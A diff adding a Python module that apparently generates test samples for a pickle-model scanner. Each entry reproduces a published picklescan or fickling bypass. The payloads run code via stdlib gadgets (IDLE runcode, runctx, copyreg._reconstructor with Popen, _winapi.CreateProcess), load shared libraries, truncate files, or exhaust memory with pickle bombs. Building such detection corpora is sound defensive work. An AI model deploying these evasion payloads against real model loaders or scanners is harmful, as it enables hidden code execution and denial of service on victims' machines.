@@ -1,0 +1,679 @@
+"""Published bypasses through the Python standard library (picklescan and fickling GHSAs, private
+modules, stdlib eval/file/DoS gadgets). Registered on import; see ``build_advisories``."""
+
+from __future__ import annotations
+
+import struct
+
+from advisory_core import (
+    FK,
+    PS,
+    Advisory,
+    adv,
+    advisory,
+    bare_obj,
+    method_call,
+)
+from build_malicious import (
+    PY_SRC,
+    REL_MARKER,
+    SHELL_CMD,
+    Asm,
+    call_pickle,
+)
+
+
+@advisory
+def ps_idlelib_pyshell_runcode() -> list[Advisory]:
+    # picklescan GHSA-3gf5-cxq9-w223 (2025-08): idlelib.pyshell.ModifiedInterpreter.runcode execs source.
+    a = Asm(4)
+    a.glob("idlelib.pyshell", "ModifiedInterpreter.runcode").mark().raw(
+        bare_obj(4, "idlelib.pyshell", "ModifiedInterpreter").code
+    )
+    a.val(PY_SRC).tuple_().reduce()
+    return adv(
+        "ps_idlelib_pyshell_runcode",
+        PS + "3gf5-cxq9-w223",
+        "2025-08",
+        a.done(),
+        "idlelib.pyshell",
+        "IDLE shell interpreter method that runs source code.",
+    )
+
+
+@advisory
+def ps_idlelib_pyshell_runcommand() -> list[Advisory]:
+    # picklescan GHSA-j343-8v2j-ff7w (2025-08): ModifiedInterpreter.runcommand execs source.
+    a = Asm(4)
+    a.glob("idlelib.pyshell", "ModifiedInterpreter.runcommand").mark()
+    a.raw(bare_obj(4, "idlelib.pyshell", "ModifiedInterpreter").code).val(PY_SRC).tuple_().reduce()
+    return adv(
+        "ps_idlelib_pyshell_runcommand",
+        PS + "j343-8v2j-ff7w",
+        "2025-08",
+        a.done(),
+        "idlelib.pyshell",
+        "IDLE runcommand: exec of a source string in the shell's namespace.",
+    )
+
+
+@advisory
+def ps_idlelib_run_executive_runcode() -> list[Advisory]:
+    # picklescan GHSA-m869-42cg-3xwr (2025-08): idlelib.run.Executive.runcode.
+    a = Asm(4)
+    a.glob("idlelib.run", "Executive.runcode").mark()
+    a.raw(bare_obj(4, "idlelib.run", "Executive").code).val(PY_SRC).tuple_().reduce()
+    return adv(
+        "ps_idlelib_run_executive_runcode",
+        PS + "m869-42cg-3xwr",
+        "2025-08",
+        a.done(),
+        "idlelib.run",
+        "IDLE subprocess executive: exec of attacker source.",
+    )
+
+
+@advisory
+def ps_idlelib_autocomplete_fetch_completions() -> list[Advisory]:
+    # picklescan GHSA-7cq8-mj8x-j263 (2025-08): AutoComplete.fetch_completions evals its argument.
+    a = Asm(4)
+    a.glob("idlelib.autocomplete", "AutoComplete.fetch_completions").mark()
+    a.raw(bare_obj(4, "idlelib.autocomplete", "AutoComplete").code).val(PY_SRC).val(1).tuple_().reduce()
+    return adv(
+        "ps_idlelib_autocomplete_fetch_completions",
+        PS + "7cq8-mj8x-j263",
+        "2025-08",
+        a.done(),
+        "idlelib.autocomplete",
+        "fetch_completions(what, mode) evaluates `what` to list attributes.",
+    )
+
+
+@advisory
+def ps_idlelib_calltip_fetch_tip() -> list[Advisory]:
+    # picklescan GHSA-8r4j-24qv-fmq9 (2025-08): Calltip.fetch_tip evals the expression it is given.
+    a = Asm(4)
+    a.glob("idlelib.calltip", "Calltip.fetch_tip").mark()
+    a.raw(bare_obj(4, "idlelib.calltip", "Calltip").code).val(PY_SRC).tuple_().reduce()
+    return adv(
+        "ps_idlelib_calltip_fetch_tip",
+        PS + "8r4j-24qv-fmq9",
+        "2025-08",
+        a.done(),
+        "idlelib.calltip",
+        "Calltip.fetch_tip(expression) evaluates the expression.",
+    )
+
+
+@advisory
+def ps_bottleneck_run_autograd_prof() -> list[Advisory]:
+    # picklescan GHSA-4whj-rm5r-c2v8 (2025-08): torch.utils.bottleneck.__main__.run_autograd_prof execs code.
+    data = call_pickle("torch.utils.bottleneck.__main__", "run_autograd_prof", PY_SRC, {})
+    return adv(
+        "ps_bottleneck_run_autograd_prof",
+        PS + "4whj-rm5r-c2v8",
+        "2025-08",
+        data,
+        "torch.utils.bottleneck",
+        "run_autograd_prof(code, globs) exec's the code under the profiler.",
+    )
+
+
+@advisory
+def ps_trace_runctx() -> list[Advisory]:
+    # picklescan GHSA-g344-hcph-8vgg (2025-08): trace.Trace.runctx.
+    data = method_call("trace", "Trace.runctx", "Trace", PY_SRC, {}, {})
+    return adv(
+        "ps_trace_runctx",
+        PS + "g344-hcph-8vgg",
+        "2025-08",
+        data,
+        "trace",
+        "Trace().runctx(cmd, globals, locals) exec's cmd.",
+        live="pickle",
+    )
+
+
+@advisory
+def ps_profile_runctx() -> list[Advisory]:
+    # picklescan GHSA-6vqj-c2q5-j97w (2025-08): profile.Profile.runctx.
+    data = method_call("profile", "Profile.runctx", "Profile", PY_SRC, {}, {})
+    return adv(
+        "ps_profile_runctx",
+        PS + "6vqj-c2q5-j97w",
+        "2025-08",
+        data,
+        "profile",
+        "Profile().runctx(cmd, globals, locals) exec's cmd.",
+        live="pickle",
+    )
+
+
+@advisory
+def ps_code_interactive_runcode() -> list[Advisory]:
+    # picklescan GHSA-cj3c-v495-4xqh (2025-08): code.InteractiveInterpreter.runcode execs a string.
+    data = method_call("code", "InteractiveInterpreter.runcode", "InteractiveInterpreter", PY_SRC)
+    return adv(
+        "ps_code_interactive_runcode",
+        PS + "cj3c-v495-4xqh",
+        "2025-08",
+        data,
+        "code",
+        "InteractiveInterpreter().runcode(src) exec's src in the interpreter namespace.",
+        live="pickle",
+    )
+
+
+@advisory
+def ps_numpy_f2py_getlincoef() -> list[Advisory]:
+    # picklescan GHSA-r8g5-cgf2-4m4m (2025-12): numpy.f2py.crackfortran.getlincoef evals its expression.
+    data = call_pickle("numpy.f2py.crackfortran", "getlincoef", PY_SRC, {})
+    return adv(
+        "ps_numpy_f2py_getlincoef",
+        PS + "r8g5-cgf2-4m4m",
+        "2025-12",
+        data,
+        "numpy.f2py",
+        "getlincoef(e, xset) evaluates e while solving a linear coefficient.",
+    )
+
+
+@advisory
+def ps_pyrepl_pipe_pager() -> list[Advisory]:
+    # picklescan GHSA-g38g-8gr9-h9xp (2026-03): _pyrepl.pager.pipe_pager runs a shell command (3.13+).
+    out = adv(
+        "ps_pyrepl_pipe_pager",
+        PS + "g38g-8gr9-h9xp",
+        "2026-03",
+        call_pickle("_pyrepl.pager", "pipe_pager", "text", SHELL_CMD),
+        "_pyrepl",
+        "pipe_pager(text, cmd) pipes text into `cmd` run by the shell.",
+    )
+    out += adv(
+        "ps_pyrepl_tempfile_pager",
+        PS + "g38g-8gr9-h9xp",
+        "2026-03",
+        call_pickle("_pyrepl.pager", "tempfile_pager", "text", SHELL_CMD),
+        "_pyrepl",
+        "tempfile_pager(text, cmd) runs `cmd <tempfile>` through os.system.",
+    )
+    return out
+
+
+@advisory
+def ps_inductor_compile_file() -> list[Advisory]:
+    # picklescan advisory fixed in 0.0.26 (2025-06; test sample malicious17): torch._inductor.codecache
+    # .compile_file(input, output, cmd) runs cmd (a list) with subprocess.
+    data = call_pickle("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", SHELL_CMD])
+    return adv(
+        "ps_inductor_compile_file",
+        "picklescan 0.0.26 fix (malicious17)",
+        "2025-06",
+        data,
+        "torch._inductor",
+        "Inductor helper that runs a compiler command line.",
+    )
+
+
+@advisory
+def ps_httplib_py2_alias() -> list[Advisory]:
+    # picklescan 0.0.9 sample malicious3 (2023): protocol-0 'httplib' (Python 2 name, remapped to
+    # http.client by fix_imports) opens a connection.
+    a = Asm(0).global_("httplib", "HTTPSConnection").mark().unicode("127.0.0.1").int_(9).tuple_().reduce()
+    return adv(
+        "ps_httplib_py2_alias",
+        "picklescan malicious3 (httplib)",
+        "2023-03",
+        a.done(),
+        "http",
+        "Python 2 module name remapped by fix_imports to http.client.",
+    )
+
+
+@advisory
+def ps_requests_api_get() -> list[Advisory]:
+    # picklescan sample malicious4 (2023): requests.api.get (submodule spelling of requests.get).
+    data = call_pickle("requests.api", "get", "http://127.0.0.1:9/")
+    return adv(
+        "ps_requests_api_get",
+        "picklescan malicious4 (requests.api)",
+        "2023-03",
+        data,
+        "requests",
+        "HTTP request from a submodule spelling.",
+    )
+
+
+@advisory
+def ps_aiohttp_client_session() -> list[Advisory]:
+    # picklescan sample malicious5 (2023): aiohttp.client.ClientSession.
+    data = call_pickle("aiohttp.client", "ClientSession")
+    return adv(
+        "ps_aiohttp_client_session",
+        "picklescan malicious5 (aiohttp)",
+        "2023-03",
+        data,
+        "aiohttp",
+        "Network client construction from a pickle.",
+    )
+
+
+@advisory
+def ps_sys_exit() -> list[Advisory]:
+    # picklescan sample malicious9 (2023): sys.exit terminates the loading process (denial of service).
+    return adv(
+        "ps_sys_exit",
+        "picklescan malicious9 (sys.exit)",
+        "2023-03",
+        call_pickle("sys", "exit", 3),
+        "sys",
+        "Loading the model kills the host process.",
+    )
+
+
+@advisory
+def ps_cloudpickle_make_function() -> list[Advisory]:
+    # picklescan GHSA-9m3x-qqw2-h32h (2026-01): cloudpickle._make_function + _builtin_type('CodeType')
+    # rebuild and call a function from raw bytecode without naming exec/eval.
+    code = compile(PY_SRC, "<m>", "exec")
+    a = Asm(4)
+    a.glob("cloudpickle.cloudpickle", "_make_function").mark()
+    a.glob("cloudpickle.cloudpickle", "_builtin_type").val("CodeType").tuple1().reduce()
+    a.tuple_of(_code_args(code)).reduce()
+    a.empty_dict().val("f").none().none().tuple_().reduce()
+    a.empty_tuple().reduce()
+    return adv(
+        "ps_cloudpickle_make_function",
+        PS + "9m3x-qqw2-h32h",
+        "2026-01",
+        a.done(),
+        "cloudpickle.cloudpickle._make_function",
+        "cloudpickle's function rebuilders: a code object is built and called.",
+    )
+
+
+@advisory
+def ps_types_codetype_function() -> list[Advisory]:
+    # picklescan GHSA-9m3x-qqw2-h32h (2026-01), second shape: types.CodeType + types.FunctionType.
+    code = compile(PY_SRC, "<m>", "exec")
+    a = Asm(4)
+    a.glob("types", "FunctionType").mark()
+    a.glob("types", "CodeType").tuple_of(_code_args(code)).reduce()
+    a.empty_dict().tuple_().reduce().empty_tuple().reduce()
+    return adv(
+        "ps_types_codetype_function",
+        PS + "9m3x-qqw2-h32h",
+        "2026-01",
+        a.done(),
+        "types.CodeType",
+        "FunctionType(CodeType(...), {})() runs bytecode carried in the pickle (Python-minor specific).",
+    )
+
+
+def _code_args(code: object) -> list[object]:
+    """Constructor arguments of ``types.CodeType`` for this interpreter (3.11+ layout)."""
+    c = code
+    return [
+        c.co_argcount,
+        c.co_posonlyargcount,
+        c.co_kwonlyargcount,
+        c.co_nlocals,  # type: ignore[attr-defined]
+        c.co_stacksize,
+        c.co_flags,
+        c.co_code,
+        tuple(x for x in c.co_consts if not hasattr(x, "co_code")),  # type: ignore[attr-defined]
+        c.co_names,
+        c.co_varnames,
+        c.co_filename,
+        c.co_name,
+        c.co_qualname,  # type: ignore[attr-defined]
+        c.co_firstlineno,
+        c.co_linetable,
+        c.co_exceptiontable,
+        c.co_freevars,
+        c.co_cellvars,  # type: ignore[attr-defined]
+    ]
+
+
+@advisory
+def ps_py2_compile_eval_chain() -> list[Advisory]:
+    # picklescan sample malicious0 (2022): protocol 0 __builtin__.compile + __builtin__.eval + globals().
+    a = Asm(0)
+    a.global_("__builtin__", "eval").mark()
+    a.global_("__builtin__", "compile").mark().unicode(PY_SRC).unicode("").unicode("exec").tuple_().reduce()
+    a.global_("__builtin__", "globals").mark().tuple_().reduce()
+    a.tuple_().reduce()
+    return adv(
+        "ps_py2_compile_eval_chain",
+        "picklescan malicious0",
+        "2022-03",
+        a.done(),
+        "builtins.eval",
+        "eval(compile(src, '', 'exec'), globals()) in the Python 2 spelling.",
+    )
+
+
+@advisory
+def ps_torch_magic_number_reduce() -> list[Advisory]:
+    # picklescan GHSA-97f8-7cmv-76j2 (2026-02): legacy torch stream whose *magic number* pickle is itself
+    # a REDUCE (the loader unpickles it before comparing), so a scanner that expects an INT skips it.
+    magic = call_pickle("builtins", "eval", "0x1950a86a20f9469cfc6c or " + PY_SRC, proto=2)
+    rest = Asm(2).int_(1001).done() + Asm(2).val({"protocol_version": 1001}).done()
+    return adv(
+        "ps_torch_magic_number_reduce",
+        PS + "97f8-7cmv-76j2",
+        "2026-02",
+        magic + rest,
+        "builtins.eval",
+        "The magic-number pickle is a call; torch.load unpickles it first.",
+        filename="pytorch_model.bin",
+    )
+
+
+@advisory
+def fk_subinterpreter_run_string() -> list[Advisory]:
+    # fickling GHSA-6ggj-6f2q-f7mx (2026-07): _interpreters.create() + run_string(id, src) execute source
+    # in a sub-interpreter of the loading process; the PoC routes the call through BUILD/__setstate__.
+    out: list[Advisory] = []
+    for mod, when in (("_interpreters", "3.13+"), ("_xxsubinterpreters", "3.8-3.12")):
+        a = Asm(4)
+        a.glob(mod, "run_string").mark().glob(mod, "create").empty_tuple().reduce().val(PY_SRC).tuple_().reduce()
+        out += adv(
+            f"fk_subinterpreter_{mod.strip('_')}",
+            FK + "6ggj-6f2q-f7mx",
+            "2026-07",
+            a.done(),
+            mod,
+            f"{mod}.run_string(create(), src) ({when}): exec in a sub-interpreter.",
+        )
+    return out
+
+
+@advisory
+def fk_ctypes_private_dlopen() -> list[Advisory]:
+    # fickling PR #302 "block private stdlib imports" (2026-07): _ctypes.dlopen loads a shared library
+    # (its constructors run) without naming the public ctypes module.
+    return adv(
+        "fk_ctypes_private_dlopen",
+        "fickling PR #302 (_ctypes)",
+        "2026-07",
+        call_pickle("_ctypes", "dlopen", "/tmp/mlvet_marker.so", 2),
+        "_ctypes",
+        "Private ctypes module: dlopen of an attacker-placed library.",
+    )
+
+
+@advisory
+def fk_frozen_importlib_external_loader() -> list[Advisory]:
+    # fickling UNSAFE_IMPORTS additions (2026-01, GHSA-q5qq-mvfm-j35x class): importlib's frozen
+    # implementation modules. SourceFileLoader(name, path).load_module() executes a local .py file.
+    a = Asm(4)
+    a.glob("_frozen_importlib_external", "SourceFileLoader.load_module").mark()
+    a.glob("_frozen_importlib_external", "SourceFileLoader").val("mlvet_marker").val("/tmp/mlvet_marker.py")
+    a.tuple2().reduce().tuple_().reduce()
+    return adv(
+        "fk_frozen_importlib_external_loader",
+        FK + "q5qq-mvfm-j35x",
+        "2026-01",
+        a.done(),
+        "_frozen_importlib_external",
+        "Frozen importlib loader executing a Python file from disk.",
+    )
+
+
+@advisory
+def fk_frozen_importlib_gcd_import() -> list[Advisory]:
+    # Same fickling class: _frozen_importlib._gcd_import imports any module (import side effects run).
+    return adv(
+        "fk_frozen_importlib_gcd_import",
+        FK + "q5qq-mvfm-j35x",
+        "2026-01",
+        call_pickle("_frozen_importlib", "_gcd_import", "antigravity"),
+        "_frozen_importlib",
+        "Import of an arbitrary module through the frozen importlib bootstrap.",
+    )
+
+
+@advisory
+def fk_imp_private() -> list[Advisory]:
+    # fickling UNSAFE_IMPORTS: "_imp" (2026-01). _imp.init_frozen / create_dynamic load modules.
+    return adv(
+        "fk_imp_init_frozen",
+        "fickling UNSAFE_IMPORTS (_imp)",
+        "2026-01",
+        call_pickle("_imp", "init_frozen", "__hello__"),
+        "_imp",
+        "Private import machinery: creates and executes a frozen module.",
+    )
+
+
+@advisory
+def fk_winapi_create_process() -> list[Advisory]:
+    # Private-stdlib class (fickling PR #302, 2026-07): _winapi.CreateProcess starts a process on Windows.
+    data = call_pickle("_winapi", "CreateProcess", None, "cmd /c " + SHELL_CMD, None, None, 0, 0, None, None, None)
+    return adv(
+        "fk_winapi_create_process",
+        "fickling PR #302 (_winapi)",
+        "2026-07",
+        data,
+        "_winapi",
+        "Windows process creation through the private _winapi module.",
+    )
+
+
+@advisory
+def fk_pexpect_run() -> list[Advisory]:
+    # fickling UNSAFE_IMPORTS "pexpect" (2026-01) and ISSUE-9: pexpect.run(cmd) spawns a command.
+    out = adv(
+        "fk_pexpect_run",
+        "fickling UNSAFE_IMPORTS (pexpect)",
+        "2026-01",
+        call_pickle("pexpect", "run", "sh -c '" + SHELL_CMD + "'"),
+        "pexpect",
+        "pexpect.run spawns the command in a pty.",
+        live="pickle",
+    )
+    out += adv(
+        "fk_pexpect_popen_spawn",
+        "fickling UNSAFE_IMPORTS (pexpect)",
+        "2026-01",
+        call_pickle("pexpect.popen_spawn", "PopenSpawn", ["sh", "-c", SHELL_CMD]),
+        "pexpect",
+        "PopenSpawn starts a subprocess at construction.",
+    )
+    return out
+
+
+@advisory
+def fk_sqlite3_private() -> list[Advisory]:
+    # fickling UNSAFE_IMPORTS "_sqlite3" (2026-01): the C module behind sqlite3 creates database files.
+    return adv(
+        "fk_sqlite3_private",
+        "fickling UNSAFE_IMPORTS (_sqlite3)",
+        "2026-01",
+        call_pickle("_sqlite3", "connect", REL_MARKER),
+        "_sqlite3",
+        "Private sqlite3 module: connect() creates a file at any path.",
+    )
+
+
+@advisory
+def fk_io_private_open() -> list[Advisory]:
+    # fickling analysis.py UNSAFE_IMPORTS "_io.open" (2026-01): truncates any file opened for writing.
+    return adv(
+        "fk_io_private_open",
+        "fickling UNSAFE_IMPORTS (_io.open)",
+        "2026-01",
+        call_pickle("_io", "open", REL_MARKER, "w"),
+        "io.open",
+        "_io.open(path, 'w') creates or truncates a file.",
+        live="pickle",
+    )
+
+
+@advisory
+def fk_syslog() -> list[Advisory]:
+    # fickling UNSAFE_IMPORTS "syslog" (2026-01): writes attacker text to the system log.
+    return adv(
+        "fk_syslog",
+        "fickling UNSAFE_IMPORTS (syslog)",
+        "2026-01",
+        call_pickle("syslog", "syslog", "mlvet-test"),
+        "syslog",
+        "Log injection from a model file.",
+    )
+
+
+@advisory
+def fk_unittest_mock_patch() -> list[Advisory]:
+    # fickling UNSAFE_IMPORTS "unittest" (2026-01): unittest.mock._importer imports any dotted module.
+    return adv(
+        "fk_unittest_mock_importer",
+        "fickling UNSAFE_IMPORTS (unittest)",
+        "2026-01",
+        call_pickle("unittest.mock", "_importer", "os"),
+        "unittest",
+        "mock's importer walks a dotted path with __import__.",
+    )
+
+
+@advisory
+def builtins_loader_load_module() -> list[Advisory]:
+    # Hide-and-Seek class "attribute walk through builtins" (2025-08): builtins.__loader__ is
+    # BuiltinImporter; its load_module imports a built-in module (posix) without naming importlib.
+    a = Asm(0).global_("builtins", "__loader__.load_module").mark().unicode("posix").tuple_().reduce()
+    return adv(
+        "hs_builtins_loader_load_module",
+        "arXiv:2508.19774 attribute walks",
+        "2025-08",
+        a.done(),
+        "builtins",
+        "builtins.__loader__.load_module('posix') returns the os implementation module.",
+    )
+
+
+@advisory
+def reconstructor_foreign_init() -> list[Advisory]:
+    # PickleBall (CCS 2025) "allowed callable with attacker-chosen class" class: copyreg._reconstructor(cls,
+    # base, state) calls base.__new__(cls, state) then base.__init__(obj, state): an allow-listed helper runs
+    # the __init__ of a class that only appears as an *argument* (never REDUCEd itself).
+    a = Asm(2)
+    a.glob("copyreg", "_reconstructor").mark().glob("subprocess", "Popen").glob("subprocess", "Popen")
+    a.val(["sh", "-c", SHELL_CMD]).tuple_().reduce()
+    return adv(
+        "pickleball_reconstructor_popen_init",
+        "PickleBall (CCS 2025) reconstructor abuse",
+        "2025-10",
+        a.done(),
+        "subprocess.Popen",
+        "_reconstructor runs Popen.__init__(obj, argv): the process starts.",
+        live="pickle",
+    )
+
+
+@advisory
+def gzip_bz2_lzma_open_write() -> list[Advisory]:
+    # Hide-and-Seek (arXiv:2508.19774, 2025-08) file-system gadget class: compression modules' open()
+    # truncate any path, like the builtins.open that deny-lists name.
+    out: list[Advisory] = []
+    for mod in ("gzip", "bz2", "lzma"):
+        out += adv(
+            f"hs_{mod}_open_write",
+            "arXiv:2508.19774 file-write gadgets",
+            "2025-08",
+            call_pickle(mod, "open", REL_MARKER, "wb"),
+            f"{mod}.open",
+            f"{mod}.open(path, 'wb') creates or truncates a file.",
+            live="pickle" if mod == "gzip" else None,
+        )
+    return out
+
+
+@advisory
+def typing_get_type_hints_eval() -> list[Advisory]:
+    # arXiv:2508.19774 stdlib eval gadgets (2025-08): typing.get_type_hints evaluates string annotations of
+    # any object; the object is an allow-listed SimpleNamespace carrying __annotations__.
+    a = Asm(4)
+    a.glob("typing", "get_type_hints").mark()
+    a.glob("types", "SimpleNamespace").empty_tuple().reduce().val({"__annotations__": {"a": PY_SRC}}).build()
+    a.tuple_().reduce()
+    return adv(
+        "hs_typing_get_type_hints_eval",
+        "arXiv:2508.19774 stdlib eval gadgets",
+        "2025-08",
+        a.done(),
+        "typing",
+        "get_type_hints(obj) eval()s obj.__annotations__ strings.",
+        live="pickle",
+    )
+
+
+@advisory
+def builtins_exit_dos() -> list[Advisory]:
+    # picklescan malicious9 class (sys.exit) spelled through the site builtin: builtins.exit(3) raises
+    # SystemExit in the loader.
+    return adv(
+        "builtins_exit_dos",
+        "picklescan malicious9 class (exit)",
+        "2023-03",
+        call_pickle("builtins", "exit", 3),
+        "builtins.exit",
+        "site's exit() builtin terminates the loading process.",
+    )
+
+
+@advisory
+def issue9_memo_index_bomb() -> list[Advisory]:
+    # ISSUE-9 (memo expansion): LONG_BINPUT with index 0x7fffffff makes CPython's C unpickler grow its memo
+    # table to ~2^32 slots (32 GiB) and clear them: a 12-byte file that exhausts the loader's memory.
+    data = b"\x80\x02N" + b"r" + struct.pack("<I", 0x7FFFFFFF) + b"."
+    return adv(
+        "issue9_memo_index_bomb",
+        "ISSUE-9 (memo expansion bomb)",
+        "2026-11",
+        data,
+        None,
+        "One LONG_BINPUT with a huge index: the memo table is resized to it.",
+    )
+
+
+@advisory
+def issue9_safe_callable_memory_bomb() -> list[Advisory]:
+    # ISSUE-9 / fickling "pickle bomb" class: only allow-listed callables, list(range(10**10)) materialises
+    # ten billion ints at load (memory exhaustion without any dangerous import).
+    a = Asm(2)
+    a.glob("builtins", "list").mark().glob("builtins", "range").val(10**10).tuple1().reduce().tuple_().reduce()
+    return adv(
+        "issue9_list_range_bomb",
+        "ISSUE-9 (safe-callable memory bomb)",
+        "2026-11",
+        a.done(),
+        None,
+        "list(range(10**10)) using only safe-tier builtins.",
+    )
+
+
+@advisory
+def cython_inline() -> list[Advisory]:
+    # modelaudit / fickling "compile" class (2025): Cython.Build.Inline.cython_inline compiles and runs code.
+    return adv(
+        "cython_inline_compile_run",
+        "modelaudit suspicious symbols (compile)",
+        "2025-06",
+        call_pickle("Cython.Build.Inline", "cython_inline", PY_SRC),
+        "Cython",
+        "Compiles the source to a C extension, imports and runs it.",
+    )
+
+
+@advisory
+def cffi_backend_load_library() -> list[Advisory]:
+    # modelaudit suspicious symbols "ffi.dlopen" (2025): _cffi_backend.load_library is cffi's dlopen.
+    return adv(
+        "cffi_backend_load_library",
+        "modelaudit suspicious symbols (ffi.dlopen)",
+        "2025-06",
+        call_pickle("_cffi_backend", "load_library", "/tmp/mlvet_marker.so"),
+        "_cffi_backend",
+        "Private cffi module: loads a shared library.",
+    )
